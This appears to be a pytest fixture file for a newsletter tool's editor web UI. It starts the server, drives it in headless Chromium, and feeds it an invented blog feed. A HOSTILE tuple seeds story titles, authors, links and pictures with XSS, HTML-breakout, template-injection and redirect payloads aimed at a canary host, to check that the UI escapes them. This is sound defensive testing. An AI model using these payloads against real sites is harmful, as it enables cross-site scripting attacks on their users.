@@ -1,0 +1,301 @@
+"""A real `digest serve` with editors, a blog with hostile stories, and Chromium in front of it.
+
+Playwright comes with `./dev test --all`, in a lock of its own; Chromium is Debian's.
+"""
+
+from __future__ import annotations
+
+import re
+import shutil
+import subprocess
+import sys
+import time
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
+from datetime import UTC, datetime, timedelta
+from email.utils import format_datetime
+from html import escape
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from fakes.smtp import AcceptingServer
+
+PEOPLE = 40
+PASSWORD = "tin roof, old rain"
+EDITORS = {"Ann": "admin", "Bo": "publisher", "Eve": "editor"}
+ELSEWHERE = "canary.example"  # no request may ever go there
+
+SETTINGS = """
+[site]
+name = "Example Engineering"
+url = "https://blog.example.com"
+public_url = "https://news.example.com"
+postal_address = "Example Ltd, 1 Example Street, Example Town"
+[delivery]
+transport = "smtp"
+[delivery.smtp]
+port = {port}
+security = "none"
+connections = 2
+[newsletters.weekly]
+title = "Example Weekly"
+sender = "Example <digest@news.example.com>"
+timezone = "Europe/Berlin"
+schedule = "Tue 09:00"
+max_articles = {limit}
+subscribers = ["people.csv"]
+[[newsletters.weekly.sources]]
+kind = "feed"
+name = "Blog"
+path = "feed.xml"
+base_url = "https://blog.example.com/index.xml"
+"""
+
+USUAL = (
+    ("The region that answered twice", "Ines Okafor", "region"),
+    ("Deletes are the hard part of a CRDT", "Jonas Lindqvist", "crdt"),
+    ("Retry budgets instead of retry counts", "Priya Raman", "retry"),
+    ("What a quorum read really costs", "Tomás Vidal", "quorum"),
+    ("Reading a heap profile without guessing", "Hanna Weiss", "heap"),
+    ("The context that outlived its request", "Samir Haddad", "context"),
+    ("Tuning the page cache for tail latency", "Mia Berg", "cache"),
+)
+# Whatever runs, asks, moves or breaks out: in a title, a teaser, a name and an address.
+RUN = "canary(1)"
+HOSTILE = (
+    f"<script>{RUN}</script>",
+    f"<img src=x onerror={RUN}>",
+    f"</iframe></textarea></title><svg onload={RUN}>",
+    f"\"'><a href=javascript:{RUN}>x</a>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f"<style>@import url(https://{ELSEWHERE}/a.css);*{{background:url(https://{ELSEWHERE}/b)}}</style>",
+    f"{{{{ 7*7 }}}} <meta http-equiv=refresh content='0;url=https://{ELSEWHERE}/'> \u202egnp.exe",
+    f"<form action=https://{ELSEWHERE}/><input autofocus onfocus={RUN}></form>",
+)
+PIXEL = bytes.fromhex(
+    "89504e470d0a1a0a0000000d49484452000000010000000108020000009077"
+    "53de0000000c4944415478da63f8ffff3f0005fe02fe33128a150000000049454e44ae426082"
+)
+
+
+def feed(stories: list[tuple[str, str, str, str, str]]) -> str:
+    """An RSS feed of title, author, link, description and picture, the newest first."""
+    items = "".join(
+        f"<item><title>{escape(title)}</title><dc:creator>{escape(author)}</dc:creator><link>{escape(link)}</link>"
+        f"<guid>{place}</guid><description>{escape(text)}</description>"
+        + (f'<media:content url="{escape(picture)}" medium="image"/>' if picture else "")
+        + f"<pubDate>{format_datetime(datetime.now(UTC) - timedelta(hours=2 + place))}</pubDate></item>"
+        for place, (title, author, link, text, picture) in enumerate(stories)
+    )
+    spaces = 'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/"'
+    return f'<rss version="2.0" {spaces}><channel><title>Blog</title>{items}</channel></rss>'
+
+
+def usual_stories() -> list[tuple[str, str, str, str, str]]:
+    text = "We measured it on five replicas in three cities, and the median hardly moves. The tail does."
+    return [
+        (title, author, f"https://blog.example.com/{name}", text, f"https://blog.example.com/{name}.png")
+        for title, author, name in USUAL
+    ]
+
+
+def hostile_stories() -> list[tuple[str, str, str, str, str]]:
+    return [
+        (f"{code} {place}", code, f"https://blog.example.com/{place}?{code}", code * 2, f"javascript:{RUN}")
+        for place, code in enumerate(HOSTILE)
+    ]
+
+
+@dataclass
+class Site:
+    """One folder that is served, and what its readers were sent."""
+
+    folder: Path
+    mail: AcceptingServer
+    address: str = ""
+    process: subprocess.Popen[str] | None = None
+    visitors: list[Any] = field(default_factory=list)
+
+    def digest(self, *words: str, stdin: str = "") -> str:
+        done = subprocess.run(
+            [sys.executable, "-m", "digest", *words],
+            cwd=self.folder,
+            input=stdin,
+            capture_output=True,
+            text=True,
+            check=False,
+        )
+        assert done.returncode == 0, done.stdout + done.stderr
+        return done.stdout
+
+    def serve(self, port: int = 0) -> None:
+        command = [sys.executable, "-m", "digest", "serve", "--port", str(port)]
+        self.process = subprocess.Popen(command, cwd=self.folder, stderr=subprocess.PIPE, text=True)
+        assert self.process.stderr is not None
+        said = ""
+        while not (found := re.search(r"Serving on (http://\S+);", said)):
+            line = self.process.stderr.readline()
+            assert line, f"digest serve ended: {said}"
+            said += line
+        self.address = found[1]
+
+    def stop(self) -> None:
+        if self.process is not None:
+            self.process.terminate()
+            self.process.wait(timeout=60)
+            assert self.process.stderr is not None
+            self.process.stderr.close()
+            self.process = None
+
+
+@pytest.fixture(scope="session")
+def furnished(tmp_path_factory: pytest.TempPathFactory) -> Callable[[list[Any], Path, int], None]:
+    """Lays out a folder with a draft and editors; each feed is collected once in a session."""
+    made: dict[str, Path] = {}
+
+    def lay_out(stories: list[Any], folder: Path, port: int) -> None:
+        key = str(stories)
+        if key not in made:
+            made[key] = tmp_path_factory.mktemp("furnished")
+            _furnish(made[key], stories)
+        shutil.copytree(made[key], folder, dirs_exist_ok=True)
+        settings = folder / "digest.toml"
+        settings.write_text(SETTINGS.format(port=port, limit=_limit(stories)))
+
+    return lay_out
+
+
+def _limit(stories: list[Any]) -> int:
+    return 6 if stories == usual_stories() else 9
+
+
+def _furnish(folder: Path, stories: list[Any]) -> None:
+    (folder / "digest.toml").write_text(SETTINGS.format(port=1, limit=_limit(stories)))
+    (folder / "feed.xml").write_text(feed(stories))
+    rows = [f"reader{number}@mail.example,Reader {number}" for number in range(PEOPLE)]
+    (folder / "people.csv").write_text("email,name\n" + "\n".join(rows) + "\n")
+    site = Site(folder=folder, mail=None)  # type: ignore[arg-type]  # nothing is sent yet
+    site.digest("collect")
+    site.digest("draft")
+    for name, role in EDITORS.items():
+        site.digest("editors", "add", name, "--role", role, "--password-stdin", stdin=PASSWORD)
+
+
+@pytest.fixture
+def mail() -> Iterator[AcceptingServer]:
+    with AcceptingServer() as server:
+        yield server
+
+
+@pytest.fixture
+def stories(request: pytest.FixtureRequest) -> list[Any]:
+    """Of the feed; a test may bring its own."""
+    return getattr(request, "param", usual_stories())
+
+
+@pytest.fixture
+def site(
+    tmp_path: Path, mail: AcceptingServer, furnished: Callable[..., None], stories: list[Any]
+) -> Iterator[Site]:
+    folder = tmp_path / "site"
+    furnished(stories, folder, mail.port)
+    made = Site(folder=folder, mail=mail)
+    made.serve()
+    yield made
+    made.stop()
+
+
+@pytest.fixture(scope="session")
+def chromium() -> Iterator[Any]:
+    sync_api = pytest.importorskip(
+        "playwright.sync_api", reason="playwright is not installed; ./dev test --all brings it"
+    )
+    with sync_api.sync_playwright() as playwright:
+        launched = playwright.chromium.launch(executable_path=shutil.which("chromium"), args=["--no-sandbox"])
+        yield launched
+        launched.close()
+
+
+@dataclass
+class Visitor:
+    """A browser of one person, and all that it complained about or asked for."""
+
+    site: Site
+    page: Any
+    complaints: list[str] = field(default_factory=list)
+    asked: list[str] = field(default_factory=list)
+
+    def go(self, path: str) -> Any:
+        return self.page.goto(f"{self.site.address}{path}")
+
+    def log_in(self, name: str) -> Visitor:
+        self.go("/desk/login")
+        self.page.fill("[name=name]", name)
+        self.page.fill("[name=password]", PASSWORD)
+        self.page.click("main button")
+        self.page.wait_for_url("**/desk")
+        return self
+
+    def open(self, query: str = "") -> Visitor:
+        self.go(f"/desk/weekly/1{query}")
+        return self
+
+    @property
+    def order(self) -> list[str]:
+        return self.page.eval_on_selector_all(
+            "ol.stories > li.row", "rows => rows.map(row => row.querySelector('.title').textContent)"
+        )
+
+    def wait(self, condition: str, argument: object = None) -> None:
+        """Until this is true in the page; asked from outside, since the page's policy allows no `eval`."""
+        until = time.monotonic() + 10
+        while not self.page.evaluate(condition, argument):
+            assert time.monotonic() < until, f"still not so: {condition} {argument or ''}"
+            self.page.wait_for_timeout(25)
+
+    def wait_for_order(self, *titles: str) -> None:
+        until = time.monotonic() + 10
+        while self.order != list(titles):
+            assert time.monotonic() < until, f"{self.order} and not {list(titles)}"
+            self.page.wait_for_timeout(25)
+
+    def wait_saved(self) -> None:
+        self.wait("document.querySelector('#saved span').textContent === 'Saved'")
+
+
+@pytest.fixture
+def visit(site: Site, chromium: Any) -> Iterator[Callable[..., Visitor]]:
+    """Opens a browser of its own for one more person."""
+    contexts = []
+
+    def opened(**options: Any) -> Visitor:
+        given = {"viewport": {"width": 1440, "height": 900}} | options
+        context = chromium.new_context(**given)
+        context.set_default_timeout(10_000)
+        contexts.append(context)
+        # Pictures of the invented blog; nothing else leaves this machine.
+        context.route(re.compile(r"^https://"), _picture)
+        visitor = Visitor(site=site, page=context.new_page())
+        visitor.page.on("console", lambda said: _hear(visitor, said))
+        visitor.page.on("pageerror", lambda error: visitor.complaints.append(str(error)))
+        context.on("request", lambda asked: visitor.asked.append(asked.url))
+        return visitor
+
+    yield opened
+    for context in contexts:
+        context.close()
+
+
+def _picture(route: Any) -> None:
+    if route.request.resource_type == "image":
+        route.fulfill(status=200, content_type="image/png", body=PIXEL)
+    else:
+        route.abort()
+
+
+def _hear(visitor: Visitor, said: Any) -> None:
+    # A refusal that the page shows is told in the console too.
+    if said.type in {"error", "warning"} and "the server responded with a status of 409" not in said.text:
+        visitor.complaints.append(said.text)
